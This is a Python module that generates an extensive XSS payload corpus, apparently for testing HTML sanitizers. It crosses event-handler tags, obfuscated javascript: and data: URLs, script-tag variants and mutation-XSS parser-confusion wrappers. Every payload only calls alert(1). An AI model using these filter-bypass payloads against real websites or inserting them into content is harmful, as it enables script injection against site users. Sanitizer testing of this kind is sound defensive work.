"""HTML that runs something in a browser: every way in, crossed with every spelling of it.

Made from tables: elements and handlers, addresses and where they are followed, and markup that one parser
reads as text and another as an element.
"""

from __future__ import annotations

from collections.abc import Iterator

CALL = "alert(1)"
# what is written before the handler; {} is the handler with its separator and quotes
HANDLED = (
    "<img src=x{sep}onerror={q}{call}{q}>",
    "<svg{sep}onload={q}{call}{q}>",
    "<body{sep}onload={q}{call}{q}>",
    "<video src=x{sep}onerror={q}{call}{q}></video>",
    "<audio src=x{sep}onerror={q}{call}{q}></audio>",
    "<details open{sep}ontoggle={q}{call}{q}>a</details>",
    "<input autofocus{sep}onfocus={q}{call}{q}>",
    "<p{sep}onmouseover={q}{call}{q}>a</p>",
    "<a href=x{sep}onclick={q}{call}{q}>a</a>",
    "<iframe src=x{sep}onload={q}{call}{q}></iframe>",
    "<marquee{sep}onstart={q}{call}{q}>a</marquee>",
    "<table><tr><td{sep}onmouseover={q}{call}{q}>a</td></tr></table>",
    "<math><mi{sep}onclick={q}{call}{q}>a</mi></math>",
    "<custom-element{sep}onmouseover={q}{call}{q} tabindex=1>a</custom-element>",
)
SEPARATORS = (" ", "/", "\n", "\t", "\f", " / ", ' x="y"', " X=y\n")
QUOTES = ("", "'", '"')
FOLLOWED = (
    '<a href="{}">a</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>a</button></form>',
    '<form><button formaction="{}">a</button></form>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<svg><a href="{}"><text>a</text></a></svg>',
    '<svg><a xlink:href="{}"><text>a</text></a></svg>',
    '<math href="{}"><mi>a</mi></math>',
    '<map name=m><area href="{}"></map>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}"><a href="x">a</a>',
)
SPELLED = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "&#1;javascript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#10;script:alert(1)",
    "java&#13;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#0000058alert(1)",
    "javascript:/*--></title></style></textarea>*/alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<script>/*<!--*/alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><script>alert(1)</script></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    "<template><script>alert(1)</script></template><script>alert(1)</script>",
    "<p>a<script>alert(1)</script>b</p>",
    "<ul><li><script>alert(1)</script></li></ul>",
)
# What is text to one parser and an element to another: comments, raw text, foreign content.
_LIVE = "<img src=x onerror=alert(1)>"
SHELTERS = (
    "<!-->{}-->",
    "<!--->{}-->",
    "<!-- --!>{}-->",
    "<!-- a --> {} <!-- b -->",
    "<![CDATA[{}]]>",
    "<svg><![CDATA[>{}]]></svg>",
    "<?xml {}?>",
    "<!DOCTYPE {}>",
    "</p {}>",
    "<style>{}</style>{}",
    "<style></style{}>{}",
    "<svg><style>{}</style></svg>",
    "<math><style>{}</style></math>",
    "<svg></p><style><a id='</style>{}'>",
    "<math><mtext><style><a title='</style>{}'></style></mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='-->{}'>",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<svg><foreignObject>{}</foreignObject></svg>",
    "<svg><desc>{}</desc></svg>",
    "<svg><title><style><a title='</title>{}'>",
    "<noscript><p title='</noscript>{}'>",
    "<noscript>{}</noscript>{}",
    "<noembed>{}</noembed>{}",
    "<noframes>{}</noframes>{}",
    "<iframe>{}</iframe>{}",
    "<xmp>{}</xmp>{}",
    "<title>{}</title>{}",
    "<textarea>{}</textarea>{}",
    "<textarea></textarea>{}",
    "<select><option>{}</select>{}",
    "<select><style></select>{}</style>",
    "<template>{}</template>{}",
    "<table>{}<tr><td>a</table>",
    "<a title='a>b' x='{}'>a</a>{}",
    "<p title='{}'>a</p>{}",
    "<b <script>{}",
    "<<b>{}",
    "< b>{}",
    "a{}",
    "<plaintext>{}",
    "\0<p\0>{}",
    "<p>{}\0",
    "<frameset>{}",
    "<head>{}</head>",
    "<body><p>{}",
    "&lt;p&gt;{}",
    "[x]({}) `{}` {{{{ 1 }}}}",
)


def attacks() -> Iterator[str]:
    """All of them, always in the same order."""
    yield from SCRIPTS
    for handled in HANDLED:
        for separator in SEPARATORS:
            for quote in QUOTES:
                yield handled.format(sep=separator, q=quote, call=CALL)
    for followed in FOLLOWED:
        for spelled in SPELLED:
            yield followed.format(spelled)
    for shelter in SHELTERS:
        yield shelter.replace("{{{{", "\1").replace("{}", _LIVE).replace("\1", "{{").replace("}}}}", "}}")
